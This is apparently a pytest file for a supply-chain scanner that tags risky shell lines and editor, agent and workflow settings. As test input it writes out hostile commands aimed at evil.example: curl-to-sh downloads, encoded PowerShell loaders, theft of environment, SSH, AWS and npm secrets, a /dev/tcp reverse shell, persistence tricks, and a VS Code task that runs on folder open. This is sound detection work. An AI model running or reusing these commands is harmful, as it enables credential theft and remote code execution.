"""What lines and scripts of shells can do, what in them belongs together, and the daily ones that say little."""

from __future__ import annotations

import base64

import pytest

from pratique.model.observation import Refusal
from pratique.model.release import Fact, SourceFile
from pratique.releases.shell import facts, facts_of_command, settings
from pratique.releases.shell.commands import LONGEST, parsed
from pratique.releases.vocabulary import CODE_ATTRIBUTES, WORDS


def script(text: str, path: str = "a.sh") -> list[Fact]:
    found = list(facts(SourceFile(path, text.encode(), "00", "shell")))
    kept = [fact for fact in found if isinstance(fact, Fact)]
    for fact in kept:
        assert fact.attributes.keys() <= {*WORDS[fact.kind][1], *CODE_ATTRIBUTES}
    return kept


def chains(line: str) -> list[tuple[str, str]]:
    return [(f.kind, str(f.attributes["steps"])) for f in facts_of_command(line) if f.kind.startswith("chain.")]


def kinds(line: str) -> set[str]:
    return {fact.kind.removeprefix("capability.") for fact in facts_of_command(line)}


@pytest.mark.parametrize(
    "line",
    [
        "node-gyp rebuild",
        "husky",
        "husky install",
        "prebuild-install || node-gyp rebuild",
        "node install.js",
        "patch-package",
        "tsc",
        "npx only-allow pnpm",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "opencollective-postinstall || exit 0",
        "node-pre-gyp install --fallback-to-build",
        "test -d dist || npm run build",
        "cross-env NODE_ENV=production webpack --mode production",
        "lerna bootstrap && yarn build",
        "exit 0",
        "echo done",
        "./node_modules/.bin/tsc -p .",
    ],
)
def test_daily_lines_give_processes_alone(line: str) -> None:
    assert kinds(line) <= {"process"}


def test_a_process_is_told_with_its_command() -> None:
    one, two = facts_of_command("prebuild-install || node-gyp rebuild")
    assert one.attributes == {
        "api": "prebuild-install",
        "command": "prebuild-install",
        "shell": True,
        "language": "shell",
    }
    assert two.attributes["command"] == "node-gyp rebuild"


NET = "https://evil.example/x"
FETCH_RUN = ("chain.download-to-run", "download, process")
FETCH_WRITE_RUN = ("chain.download-to-run", "download, file-write, process")
DECODE_RUN = ("chain.decode-to-run", "decode, process")
ENCODED = base64.b64encode(f"curl {NET} | sh".encode()).decode()
POWERSHELL = base64.b64encode(f"IEX (New-Object Net.WebClient).DownloadString('{NET}')".encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (f"curl -fsSL {NET} | sh", [FETCH_RUN]),
        (f"wget -qO- {NET} | sudo bash -s -- -y", [FETCH_RUN]),
        (f"curl {NET} | gunzip | node", [("chain.decode-to-run", "download, decode, process"), ("chain.download-to-run", "download, decode, process")]),
        (f'bash -c "$(curl -fsSL {NET})"', [FETCH_RUN]),
        (f"bash <(curl -s {NET})", [FETCH_RUN]),
        (f"eval $(curl -s {NET})", [FETCH_RUN]),
        (f"python3 -c \"$(curl -s {NET})\"", [FETCH_RUN]),
        (f"wget {NET} -O /tmp/b && chmod +x /tmp/b && /tmp/b", [FETCH_WRITE_RUN]),
        (f"curl {NET} > i.js; node i.js", [FETCH_WRITE_RUN]),
        (f"curl -O {NET}.sh && sh x.sh", [FETCH_WRITE_RUN]),
        (f"curl -o i.js {NET}; node i.js; rm i.js", [FETCH_WRITE_RUN, ("chain.run-and-hide", "process, file-delete")]),
        (f"X=$(curl -s {NET}); eval \"$X\"", [FETCH_RUN]),
        (f"echo {ENCODED} | base64 -d | sh", [FETCH_RUN, DECODE_RUN]),
        (f"powershell -NoP -W Hidden -Enc {POWERSHELL}", [FETCH_RUN, DECODE_RUN]),
        (f"env | curl -d @- {NET}", [("chain.secret-to-network", "environment-read, network")]),
        (f'curl -d "$(env | base64 -w0)" {NET}', [("chain.secret-to-network", "environment-read, network")]),
        (f"printenv | base64 | curl -X POST --data-binary @- {NET}", [("chain.secret-to-network", "environment-read, encode, network")]),
        (f"curl -F f=@$HOME/.npmrc {NET}", [("chain.secret-to-network", "credential-read, network")]),
        ("cat ~/.ssh/id_rsa | nc evil.example 80", [("chain.secret-to-network", "credential-read, network")]),
        (f'X=$(cat ~/.aws/credentials); curl "{NET}?d=$X"', [("chain.secret-to-network", "credential-read, network")]),
        (f"env > /tmp/e; curl -T /tmp/e {NET}", [("chain.secret-to-network", "environment-read, file-write, network")]),
        (f'curl -d "t=$NPM_TOKEN" {NET}', [("chain.secret-to-network", "environment-read, network")]),
        (f'curl -H "Authorization: token $GITHUB_TOKEN" {NET}', []),
        ('node x.js; rm -- "$0"', [("chain.run-and-hide", "process, self-delete")]),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", [("chain.download-to-run", "network, process")]),
        (f"curl -o data.json {NET} && node build.js", []),
        ("node build.js && rm -rf tmp", []),
        ("cat package.json | node parse.js", []),
        (f"osascript -e 'do shell script \"curl {NET} | sh\"'", [FETCH_RUN]),
    ],
)  # fmt: skip
def test_what_belongs_together(line: str, expected: list[tuple[str, str]]) -> None:
    assert sorted(chains(line)) == sorted(expected)


@pytest.mark.parametrize(
    ("line", "kind", "known"),
    [
        ("nohup node x.js > /dev/null 2>&1 &", "process", {"api": "node", "detached": True, "hidden": True}),
        ("setsid ./x", "process", {"api": "x", "detached": True}),
        ("start /b node x.js", "process", {"api": "node", "detached": True, "hidden": True}),
        ("echo 'x' >> ~/.bashrc", "persistence", {"place": "shell-startup"}),
        ("echo '* * * * * x' | crontab -", "persistence", {"place": "cron"}),
        ("systemctl --user enable x.service", "persistence", {"place": "systemd"}),
        ("echo key >> ~/.ssh/authorized_keys", "persistence", {"place": "ssh-authorized"}),
        ("cp x .git/hooks/pre-commit", "persistence", {"place": "git-hook"}),
        ("tee .github/workflows/a.yml", "workflow-write", {"place": "workflow"}),
        ("npm publish --access public", "own-publish", {"api": "npm publish --access"}),
        ("mv package.md package.json", "manifest-swap", {}),
        ('rm -f "$0"', "self-delete", {}),
        ("whoami", "host-recon", {"api": "whoami", "weak": False}),
        ("uname -s", "host-recon", {"weak": True}),
        ("sleep 86400", "delay", {"seconds": 86400}),
        ("sleep 2h", "delay", {"seconds": 7200}),
        ("gh auth token", "credential-read", {"place": "token-command"}),
        ("curl http://45.67.89.10/a", "network", {"raw_address": True, "destination": "hxxp://45[.]67[.]89[.]10/a"}),
        ("certutil -urlcache -f http://evil.example/a a.exe", "download", {"api": "certutil"}),
        ("openssl enc -aes-256-cbc -in a -out b", "encode", {"form": "openssl"}),
        ("pbpaste", "clipboard", {}),
        ('[ -n "$CI" ] && exit', "condition", {"on": "CI"}),
        ("npx some-package --yes", "process", {"api": "npx", "command": "npx some-package --yes"}),
    ],
)
def test_what_a_line_can_do(line: str, kind: str, known: dict[str, object]) -> None:
    found = [
        fact
        for fact in facts_of_command(line, "windows" if "/b" in line else "posix")
        if fact.kind.endswith(f".{kind}")
    ]
    assert any(known.items() <= fact.attributes.items() for fact in found), found


def test_lines_layers_and_code_of_a_script() -> None:
    text = (
        "#!/bin/bash\n# curl https://comment.example | sh\nset -e\n"
        "cat > notes.txt <<EOF\ncurl https://document.example | sh\nEOF\n"
        f"echo {ENCODED} |\\\n  base64 --decode |\\\n  bash\n"
        "node -e \"require('child_process').exec('id')\"\n"
        'if true; then\n  bash -c "rm -f a.sh"\nfi\n'
    )
    found = script(text)
    assert [(f.line, f.attributes.get("layer", 0)) for f in found if f.kind == "chain.download-to-run"] == [(7, 1)]
    assert [(f.line, f.attributes["lines"]) for f in found if f.kind == "chain.decode-to-run"] == [(9, "8, 9")]
    assert [f.line for f in found if f.kind == "capability.self-delete"] == [12]
    assert "example" not in " ".join(f.excerpt for f in found if "comment" in f.excerpt or "document" in f.excerpt)
    code = [f for f in found if f.attributes.get("language") == "javascript" and f.kind == "capability.process"]
    assert [f.line for f in code] == [10]


def test_dialects() -> None:
    power = script(
        f"# x\n$w = New-Object Net.WebClient\n$w.DownloadFile('{NET}', 'a.exe')\nStart-Process -WindowStyle Hidden .\\a.exe\n",
        "a.ps1",
    )
    assert {"capability.network", "capability.download", "capability.process"} <= {f.kind for f in power}
    assert any(f.attributes.get("hidden") for f in power if f.kind == "capability.process")
    batch = script(f'@echo off\r\nREM x\r\ncurl {NET} -o a.exe & a.exe\r\ndel "%~f0"\r\n', "a.bat")
    assert {"capability.download", "capability.self-delete"} <= {f.kind for f in batch}
    assert [f.line for f in batch if f.kind == "capability.self-delete"] == [4]


def test_a_long_script_is_refused_in_part() -> None:
    found = list(facts(SourceFile("a.sh", b"true\n" * (LONGEST // 4), "00", "shell")))
    assert [one.relevant for one in found if isinstance(one, Refusal)] == [True]


def test_words_and_what_joins_them() -> None:
    told = [
        (c.words, c.joined, c.writes, c.line) for c in parsed("a 'b c' |\nd > e 2>&1 && f &\n(g; h $(i j))\n", "posix")
    ]
    assert told == [
        (["a", "b c"], "|", [], 0),
        (["d"], "&&", ["e"], 1),
        (["f"], "&", [], 1),
        (["g"], ";", [], 2),
        (["i", "j"], ";", [], 2),
        (["h", ""], ";", [], 2),
    ]


def concerned(path: str, text: str) -> list[tuple[str, int, object]]:
    found = list(settings.facts(SourceFile(path, text.encode(), "00", "json")))
    return [(f.kind, f.line, f.attributes.get("place")) for f in found if isinstance(f, Fact)]


TASKS = """{
  // runs at once
  "tasks": [
    {"label": "a", "command": "tsc"},
    {"label": "b", "command": "curl https://evil.example/x | sh", "runOptions": {"runOn": "folderOpen"},},
  ],
}
"""
HOOKS = """{"hooks": {"SessionStart": [
  {"matcher": "*", "hooks": [{"type": "command", "command": "node .claude/setup.mjs"}]}]}}
"""


def test_settings_that_run_things() -> None:
    tasks = concerned(".vscode/tasks.json", TASKS)
    assert tasks[:2] == [("capability.persistence", 5, "vscode-task"), ("capability.agent-configuration", 5, "vscode")]
    assert ("chain.download-to-run", 5, None) in tasks
    hooks = concerned("package/.claude/settings.json", HOOKS)
    assert hooks == [("capability.agent-configuration", 2, "claude"), ("capability.process", 2, None)]
    assert concerned(".mcp.json", '{"mcpServers": {"a": {"command": "npx", "args": ["-y", "b"]}}}')[0] == (
        "capability.agent-configuration", 1, "mcp"
    )  # fmt: skip
    assert concerned(".devcontainer/devcontainer.json", '{"postCreateCommand": "npm ci"}')[0][2] == "devcontainer"
    workflow = "name: a\non: push\njobs:\n  a:\n    steps:\n      - run: echo '${{ toJSON(secrets) }}'\n"
    assert concerned(".github/workflows/a.yml", workflow) == [
        ("capability.workflow-write", 2, "workflow"),
        ("capability.credential-read", 6, "workflow-secrets"),
    ]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".vscode/settings.json", '{"editor.tabSize": 2, "hooks": {"x": 1}}'),
        (".vscode/tasks.json", '{"tasks": [{"command": "tsc", "runOptions": {"runOn": "default"}}]}'),
        (".claude/settings.json", '{"permissions": {"allow": ["Bash(ls)"]}}'),
        ("tsconfig.json", HOOKS),
        ("data/hooks.json", HOOKS),
        ("docs/workflows/a.yml", "on: push\n"),
    ],
)
def test_settings_that_do_not(path: str, text: str) -> None:
    assert concerned(path, text) == []


def test_settings_that_cannot_be_read_are_refused() -> None:
    for text in ("{", "[" * 100_000, "\0"):
        (refusal,) = settings.facts(SourceFile(".claude/settings.json", text.encode(), "00", "json"))
        assert isinstance(refusal, Refusal)
